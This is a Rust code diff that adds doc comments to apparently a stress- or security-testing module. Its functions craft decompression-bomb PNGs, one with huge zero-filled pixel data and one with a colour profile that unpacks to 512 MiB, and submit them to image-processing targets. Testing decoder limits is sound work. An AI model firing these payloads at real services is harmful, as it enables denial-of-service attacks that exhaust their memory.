@@ -26,12 +26,14 @@ const PROFILE_BYTES: u64 = 512 << 20;
 const DEEP: [u8; 2] = [16, 6];
 const PLAIN: [u8; 2] = [8, 2];
 
+/// Repeatedly submits a small file with a large picture.
 pub fn pixels(target: &Rc<AttackTarget>) {
     let row = 1 + u64::from(SIDE) * PIXEL_BYTES;
     // The result of this job has the size of its input, so that no limit of results rejects it before decoding.
     submit(target, SKIN, &png(SIDE, DEEP, None, &deflated_zeros(row * u64::from(SIDE))));
 }
 
+/// Repeatedly submits a small picture with a colour profile that unpacks to [`PROFILE_BYTES`].
 pub fn profiles(target: &Rc<AttackTarget>) {
     let profile = [&b"bomb\0\0"[..], &deflated_zeros(PROFILE_BYTES)].concat();
     submit(target, UPSCALER, &png(8, PLAIN, Some(&profile), &deflated_zeros(8 * (1 + 8 * 3))));
@@ -55,6 +57,7 @@ fn png(side: u32, [depth, colours]: [u8; 2], profile: Option<&[u8]>, pixels: &[u
     file
 }
 
+/// Returns a PNG chunk with its checksum.
 fn chunk(name: [u8; 4], content: &[u8]) -> Vec<u8> {
     let tagged = [&name, content].concat();
     let mut crc = Crc::new();
@@ -63,6 +66,7 @@ fn chunk(name: [u8; 4], content: &[u8]) -> Vec<u8> {
     [&length.to_be_bytes()[..], &tagged, &crc.sum().to_be_bytes()].concat()
 }
 
+/// Returns `count` zero bytes, compressed by zlib.
 fn deflated_zeros(count: u64) -> Vec<u8> {
     let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
     std::io::copy(&mut std::io::repeat(0).take(count), &mut encoder).expect("writing to memory succeeds");
